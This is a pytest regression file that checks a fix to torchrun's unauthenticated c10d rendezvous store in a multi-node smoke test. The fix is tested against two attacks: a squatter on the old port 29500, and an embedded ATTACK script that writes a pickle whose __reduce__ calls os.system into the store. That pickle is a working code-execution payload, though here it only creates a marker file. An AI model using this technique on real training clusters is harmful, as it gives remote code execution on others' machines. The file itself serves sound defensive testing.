"""The multi-node smoke's rendezvous under attack, on lab hosts with the real torchrun (CPU
torch, gloo) and the real c10d store: nobody but the run reaches the store.

torch's store has no authentication and torch unpickles what it reads there. Before the
fix the store listened on every interface on the fixed port 29500, the run id showed in
every host's process list, and a store already on that port was joined as a client:
(a) a listener squatting the port got the run's connections, (b) another host wrote a
pickle into the real store during a run and its code ran in both torchruns. Lab hosts
share the machine's network namespace, so "another host" is any address but the first
host's loopback (which a local user of the first host could reach: docs/security.md)."""

from __future__ import annotations

import json
import re
import shlex
import socket
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Lab, until
from tests.smoke.test_multinode_lab import _inventory as multinode_inventory

VENV_BIN = Path(sys.executable).parent
OLD_PORT = 29500  # the fixed port of the rendezvous before the fix
MARKER = "/tmp/gpunode-rendezvous-pwned"  # what the attacker's pickle would create

TARGET = "/tmp/gpunode-rendezvous-target"  # where the test tells the attacker what it found

# Runs on another host with the lab's python, started before the run (torch imported, so
# it strikes at once): once TARGET.ready appears, for each "address port run-id" line of
# TARGET, connect to the store and write a pickle where the rendezvous keeps its state
# (torch.rendezvous.<run id>), which torch unpickles.
ATTACK = """
import base64, os, pickle, socket, sys, time
from datetime import timedelta
import torch.distributed as dist
target, marker = sys.argv[1], sys.argv[2]
class Payload:
    def __reduce__(self):
        return (os.system, ("touch " + marker,))
deadline = time.monotonic() + 150
while not os.path.exists(target + ".ready"):
    if time.monotonic() > deadline:
        sys.exit("no target")
    time.sleep(0.05)
for line in open(target).read().splitlines():
    addr, port, run_id = line.split()
    try:
        socket.create_connection((addr, int(port)), timeout=5).close()
    except OSError as exc:
        print(port, "refused", type(exc).__name__, flush=True)
        continue
    store = dist.TCPStore(addr, int(port), is_master=False, timeout=timedelta(seconds=10))
    store.set("torch.rendezvous." + run_id, base64.b64encode(pickle.dumps(Payload())))
    print(port, "written", flush=True)
"""


def _inventory(lab: Lab, tmp: Path, hosts: list[str], transport: str) -> Path:
    """The real torchrun (no front), gloo on lo, 1 MiB."""
    return multinode_inventory(lab, tmp, hosts, transport, bin=str(VENV_BIN), sizes_mib=[1])


def _start(inv: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "gpunode", "smoke", str(inv), "--only", "nccl-multinode", "--json"],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip


def _results(proc: subprocess.Popen[str]) -> tuple[int, dict[str, dict[str, Any]]]:
    out, err = proc.communicate(timeout=240)
    assert out.strip(), err
    doc = json.loads(out)
    results = {}
    for host in doc["hosts"]:
        (record,) = [r for r in host["results"] if r["name"] == "nccl-multinode"]
        results[host["host"]] = record
    return proc.returncode, results


@pytest.fixture
def two(lab_hosts: Lab) -> list[str]:
    if len(lab_hosts.names) < 2:
        pytest.skip("needs 2 lab hosts")
    if not (VENV_BIN / "torchrun").exists():
        pytest.skip("no torchrun beside this python")
    hosts = lab_hosts.names[:2]
    for host in hosts:
        lab_hosts.sudo(host, f"rm -f {MARKER}")
    return hosts


def test_a_squatter_on_the_old_port_gets_no_connection(
    lab_hosts: Lab, two: list[str], tmp_path: Path
) -> None:
    """(a) A listener takes the old rendezvous port on the first host's address before
    the run: the run never connects to it (before the fix both torchruns did, and took
    what it served as the rendezvous state)."""
    accepted: list[tuple[str, int]] = []
    squatter = socket.create_server((lab_hosts.addresses[two[0]], OLD_PORT))

    def serve() -> None:
        while True:
            try:
                conn, peer = squatter.accept()
            except OSError:
                return
            accepted.append(peer)
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    try:
        code, results = _results(_start(_inventory(lab_hosts, tmp_path, two, "paramiko")))
    finally:
        squatter.close()
    assert accepted == [], "the run connected to the squatter"
    assert code == 0, results
    for host in two:
        assert results[host]["status"] == "pass", results[host]
        assert results[host]["details"]["world"] == 2


def _listeners(lab: Lab, host: str) -> dict[int, str]:
    """TCP ports the host's own processes listen on (not sshd's :22; sshd's forwards
    count): port -> address."""
    out = lab.sudo(host, "ss -Hltnp").stdout
    found = {}
    for line in out.splitlines():
        if "users:((" not in line:
            continue  # another host's socket (lab hosts share the network namespace)
        local = line.split()[3]
        addr, _, port = local.rpartition(":")
        if port != "22":
            found[int(port)] = addr
    return found


def test_the_store_is_out_of_reach_of_another_host_during_a_run(
    lab_hosts: Lab, two: list[str], tmp_path: Path
) -> None:
    """(b) During a normal run (real OpenSSH client), another host looks for the store
    and the run id and writes a pickle into every port the run listens on: every
    connection is refused, nothing runs, and the run id is in no process list."""
    first, other = two
    lab_hosts.run(other, f"rm -f {TARGET} {TARGET}.ready")
    attacker = subprocess.Popen(
        lab_hosts.ssh_argv(
            other, f"{VENV_BIN}/python -c {shlex.quote(ATTACK)} {TARGET} {MARKER}"
        ),
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )  # fmt: skip
    proc = _start(_inventory(lab_hosts, tmp_path, two, "openssh"))
    seen: dict[tuple[str, int], str] = {}  # (host, port): the address it listens on
    processes: list[str] = []

    def store_up() -> bool:
        for host in two:
            processes.append(lab_hosts.run(host, "ps -eo args=").stdout)
        if "torch" not in processes[-2] + processes[-1]:
            return False
        # on every host of the run: torch hosted the store wherever it could bind the port
        for host in two:
            seen.update({(host, port): a for port, a in _listeners(lab_hosts, host).items()})
        return bool(seen)

    try:
        until(store_up, 90, "the run listening on the first host")
        found = re.search(r"--rdzv[-_]id[= ](\S+)", "\n".join(processes))
        run_id = found.group(1) if found else "unknown"
        addresses = lab_hosts.addresses
        lines = "".join(f"{addresses[host]} {port} {run_id}\n" for host, port in seen)
        lab_hosts.run(other, f"printf %s {shlex.quote(lines)} > {TARGET} && touch {TARGET}.ready")
        said = attacker.communicate(timeout=120)[0]
        attacks = [line for line in said.splitlines() if re.match(r"[0-9]+ ", line)]
        for host in two:
            processes.append(lab_hosts.run(host, "ps -eo args=").stdout)
    finally:
        attacker.kill()
        code, results = _results(proc)
    assert len(attacks) == len(seen) > 0, said
    assert all(" refused ConnectionRefusedError" in a for a in attacks), attacks
    assert all(addr == "127.0.0.1" for addr in seen.values()), seen
    for host in two:
        assert lab_hosts.run(host, f"test ! -e {MARKER}", check=False).returncode == 0, (
            f"the attacker's pickle ran on {host}"
        )
    assert code == 0, results
    run_id = results[first]["details"]["run_id"]
    assert run_id and all(run_id not in ps for ps in processes), "the run id was in ps"
